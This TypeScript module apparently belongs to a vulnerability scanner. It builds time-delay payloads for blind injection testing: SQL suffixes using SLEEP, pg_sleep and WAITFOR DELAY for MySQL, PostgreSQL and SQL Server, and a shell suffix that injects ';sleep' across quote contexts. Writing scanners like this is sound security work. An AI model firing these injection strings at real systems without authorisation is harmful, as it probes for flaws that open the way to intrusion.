import { IS_DATE } from './boolean-payloads.ts';

/** A value that delays the response if it becomes part of a query or a command. */
export interface DelaySyntax {
  readonly name: string;
  suffix(seconds: number): string;
}

const seconds = (value: number) => value.toFixed(1);

const mysql = (delay: number) => `(SELECT 1 FROM (SELECT SLEEP(${seconds(delay)}))sg)=1`;
const postgres = (delay: number) => `1=(SELECT 1 FROM pg_sleep(${seconds(delay)}))`;

/**
 * Each evaluates at most once per query, whatever the number of rows: subqueries without a reference to the outer query. No statement
 * is cut off by a comment, because a program might change data by it.
 */
const OF_TEXT: readonly DelaySyntax[] = [
  { name: 'MySQL or MariaDB', suffix: (delay) => `' AND ${mysql(delay)} AND '1'='1` },
  { name: 'PostgreSQL', suffix: (delay) => `' AND ${postgres(delay)} AND '1'='1` },
];
const OF_NUMBERS: readonly DelaySyntax[] = [
  { name: 'MySQL or MariaDB', suffix: (delay) => ` AND ${mysql(delay)}` },
  { name: 'PostgreSQL', suffix: (delay) => ` AND ${postgres(delay)}` },
];
/** The closing quote of the program ends the time; a number needs no quote. */
const WAIT_IN_QUOTES: DelaySyntax = {
  name: 'Microsoft SQL Server',
  suffix: (delay) => `' WAITFOR DELAY '0:0:${seconds(delay)}`,
};
const WAIT: DelaySyntax = {
  name: 'Microsoft SQL Server',
  suffix: (delay) => ` WAITFOR DELAY '0:0:${seconds(delay)}'`,
};

/** The delays of the databases that have some, in the contexts that fit the value. */
export function sqlDelays(example: string): readonly DelaySyntax[] {
  if (/^-?\d+$/.test(example)) return [...OF_NUMBERS, WAIT, ...OF_TEXT];
  return IS_DATE.test(example) ? [...OF_TEXT, ...OF_NUMBERS, WAIT_IN_QUOTES] : [...OF_TEXT, WAIT_IN_QUOTES];
}

export const SHELL_DELAYS: readonly DelaySyntax[] = [
  {
    name: 'a shell',
    suffix: (delay) => `;sleep ${seconds(delay)} #';sleep ${seconds(delay)} #";sleep ${seconds(delay)} # `,
  },
];

/** The payload for people: without its delay. */
export function withoutDelay(payload: string): string {
  return payload.replace(/(?<=SLEEP\(|pg_sleep\(|0:0:|sleep )\d\.\d/g, 's');
}
